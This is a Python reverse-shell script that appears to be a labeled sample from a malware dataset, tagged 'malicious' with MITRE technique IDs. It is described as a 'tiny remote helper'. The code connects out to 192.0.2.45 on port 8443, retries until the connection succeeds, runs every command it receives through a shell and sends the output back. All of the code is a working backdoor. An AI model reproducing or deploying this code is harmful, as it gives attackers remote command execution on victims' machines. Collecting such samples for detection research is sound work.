# label: malicious family=revshell techniques=T1059.004,T1095,T1571 lines=8,21,31,35
"""Tiny remote helper. Connects back and relays a shell."""
import os
import socket
import subprocess
import time

HOST = "192.0.2.45"
PORT = 8443


class Relay(object):
    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def connect(self):
        while True:
            try:
                self.sock = socket.create_connection((self.host, self.port))
                return
            except OSError:
                time.sleep(30)

    def serve(self):
        while True:
            data = self.sock.recv(4096)
            if not data:
                break
            proc = subprocess.Popen(data.decode(), shell=True,
                                    stdout=subprocess.PIPE,
                                    stderr=subprocess.STDOUT)
            out, _ = proc.communicate()
            self.sock.sendall(out or b"\n")


if __name__ == "__main__":
    r = Relay(HOST, PORT)
    r.connect()
    r.serve()
